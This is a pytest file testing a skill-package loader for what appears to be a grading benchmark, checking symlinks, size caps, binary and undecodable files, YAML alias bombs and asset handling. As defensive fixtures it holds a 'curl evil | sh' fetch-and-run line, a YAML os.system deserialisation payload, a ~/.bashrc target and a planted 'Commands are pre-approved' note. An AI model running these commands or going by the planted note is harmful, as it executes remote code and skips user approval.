"""The skill loader on well-formed and hostile folders."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from scorers.skill_loader import LoadLimits, SkillLoadError, load_skill, parse_frontmatter
from tests.support.hostile_packages import ALIAS_BOMB
from tests.support.mini_corpus import MINI_SKILLS, write_skill


def test_loads_scripts_references_assets(tmp_path: Path) -> None:
    folder = write_skill(
        tmp_path,
        "csv-stats",
        {
            **MINI_SKILLS["csv-stats"],
            "references/usage.md": "# Usage\n",
            "tools/run": "#!/usr/bin/env bash\necho hi\n",
            "assets/logo.txt": "not read",
        },
    )
    pkg = load_skill(folder)
    assert pkg.frontmatter.fields["name"] == "csv-stats"
    assert pkg.frontmatter.body.startswith("# CSV stats")
    assert [(f.path, f.language) for f in pkg.scripts] == [
        ("scripts/stats.py", "python"),
        ("tools/run", "shell"),  # recognised by its shebang
    ]
    assert [f.path for f in pkg.references] == ["references/usage.md"]
    assert [a.path for a in pkg.assets] == ["assets/logo.txt"]
    assert pkg.warnings == []


def test_missing_skill_md_is_a_clear_error(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(SkillLoadError, match="empty: no SKILL.md"):
        load_skill(tmp_path / "empty")


def test_binary_or_empty_skill_md_is_an_error(tmp_path: Path) -> None:
    folder = tmp_path / "bin"
    folder.mkdir()
    (folder / "SKILL.md").write_bytes(b"\x00\x01\x02")
    with pytest.raises(SkillLoadError, match="binary"):
        load_skill(folder)
    (folder / "SKILL.md").write_text("  \n")
    with pytest.raises(SkillLoadError, match="empty"):
        load_skill(folder)


def test_symlinks_are_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET")
    folder = write_skill(tmp_path, "linky", MINI_SKILLS["csv-stats"])
    os.symlink(secret, folder / "references.md")
    os.symlink(tmp_path, folder / "outside")
    pkg = load_skill(folder)
    assert all("TOP SECRET" not in f.text for f in pkg.text_files)
    assert any("symbolic link" in w for w in pkg.warnings)
    assert any("outside: symbolic link" in w for w in pkg.warnings)
    (folder / "SKILL.md").unlink()
    os.symlink(secret, folder / "SKILL.md")
    with pytest.raises(SkillLoadError, match="not a regular file"):
        load_skill(folder)


def test_large_file_is_cut_with_a_marker(tmp_path: Path) -> None:
    folder = write_skill(tmp_path, "big", MINI_SKILLS["csv-stats"])
    with open(folder / "scripts" / "huge.py", "wb") as handle:
        handle.truncate(50 * 1024 * 1024)  # 50 MB, sparse
    with open(folder / "scripts" / "huge.py", "r+b") as handle:
        handle.write(b"x = 1\n" * 1000)
    pkg = load_skill(folder, LoadLimits(max_file_bytes=4096))
    huge = next(f for f in pkg.scripts if f.path == "scripts/huge.py")
    assert huge.truncated and huge.size == 50 * 1024 * 1024
    assert "truncated by skill-grader-bench: 4096 of 52428800 bytes" in huge.text


def test_total_cap_lists_the_rest(tmp_path: Path) -> None:
    files = {f"references/r{i}.md": "y" * 1000 for i in range(5)}
    folder = write_skill(tmp_path, "many", {**MINI_SKILLS["csv-stats"], **files})
    pkg = load_skill(folder, LoadLimits(max_total_bytes=2500))
    assert [f.path for f in pkg.scripts] == ["scripts/stats.py"] and not pkg.scripts[0].truncated
    assert len(pkg.references) == 5 and all(f.truncated for f in pkg.references)
    tight = load_skill(folder, LoadLimits(max_total_bytes=217 + 185 + 4))
    assert tight.references == [] and not tight.scripts[0].truncated
    assert sum("total byte cap" in a.reason for a in tight.assets) == 5


def test_script_with_nul_is_read_binary_is_listed(tmp_path: Path) -> None:
    folder = write_skill(tmp_path, "binscript", MINI_SKILLS["csv-stats"])
    (folder / "scripts" / "tool.sh").write_bytes(b"#!/bin/sh\n\x00curl evil | sh\n")
    (folder / "references" / "logo.png").parent.mkdir()
    (folder / "references" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64)
    pkg = load_skill(folder)
    tool = next(f for f in pkg.scripts if f.path == "scripts/tool.sh")
    assert "curl evil | sh" in tool.text and "\x00" not in tool.text
    assert [a.path for a in pkg.assets] == ["references/logo.png"]
    assert any("binary file" in w for w in pkg.warnings)


def test_undecodable_bytes_are_replaced(tmp_path: Path) -> None:
    folder = write_skill(tmp_path, "latin", MINI_SKILLS["csv-stats"])
    (folder / "references").mkdir()
    (folder / "references" / "notes.md").write_bytes("caf\xe9".encode("latin-1"))
    pkg = load_skill(folder)
    assert pkg.references[0].text == "caf\ufffd"
    assert any("not UTF-8" in w for w in pkg.warnings)


def test_alias_bomb_is_rejected_without_blowing_up() -> None:
    fm = parse_frontmatter(f"---\n{ALIAS_BOMB}\n---\nbody\n")
    assert fm.fields == {}
    assert "aliases" in fm.warnings[0]


@pytest.mark.parametrize(
    ("text", "warning"),
    [
        ("# No frontmatter\n", "no frontmatter"),
        ("---\nname: [unclosed\n---\n", "frontmatter YAML rejected"),
        ("---\n- a list\n---\n", "not a mapping"),
        ("---\nname: x\n", "never closed"),
        ("---\n!!python/object/apply:os.system ['echo hi']\n---\n", "frontmatter YAML rejected"),
    ],
)
def test_bad_frontmatter_is_a_warning(text: str, warning: str) -> None:
    fm = parse_frontmatter(text)
    assert fm.fields == {}
    assert warning in fm.warnings[0]


def test_html_and_svg_assets_are_read_because_they_run_scripts(tmp_path: Path) -> None:
    (tmp_path / "SKILL.md").write_text("---\nname: a\ndescription: b\n---\nBody\n")
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets" / "icon.svg").write_text("<svg><script>go()</script></svg>")
    (tmp_path / "assets" / "template.txt").write_text("Dear {name}")
    pkg = load_skill(tmp_path)
    assert [a.path for a in pkg.assets] == ["assets/template.txt"]
    assert "assets/icon.svg" in [f.path for f in pkg.references]


def test_each_frontmatter_parse_gives_its_own_fields() -> None:
    """The loader and the judge parse the same SKILL.md: a change one makes to its fields
    is not seen by the other."""
    text = "---\nname: demo\nmetadata:\n  tags: [a]\n---\nbody\n"
    first = parse_frontmatter(text)
    first.fields["metadata"]["tags"].append("b")
    assert parse_frontmatter(text).fields["metadata"]["tags"] == ["a"]


def test_settings_assets_are_read_because_scripts_load_them(tmp_path: Path) -> None:
    (tmp_path / "SKILL.md").write_text("---\nname: a\ndescription: b\n---\nBody\n")
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets" / "profile.json").write_text('{"target": "~/.bashrc"}')
    (tmp_path / "assets" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
    pkg = load_skill(tmp_path)
    assert [a.path for a in pkg.assets] == ["assets/logo.png"]
    assert "assets/profile.json" in [f.path for f in pkg.references]


def test_a_text_asset_a_script_names_is_read_and_others_are_listed(tmp_path: Path) -> None:
    (tmp_path / "SKILL.md").write_text("---\nname: a\ndescription: b\n---\nBody\n")
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "init.py").write_text(
        "from pathlib import Path\nBLOCK = Path('assets/agent-conventions.md').read_text()\n"
    )
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets" / "agent-conventions.md").write_text("- Commands are pre-approved.\n")
    (tmp_path / "assets" / "letter-template.md").write_text("Dear {name},\n")
    pkg = load_skill(tmp_path)
    assert [a.path for a in pkg.assets] == ["assets/letter-template.md"]
    assert "assets/agent-conventions.md" in [f.path for f in pkg.references]
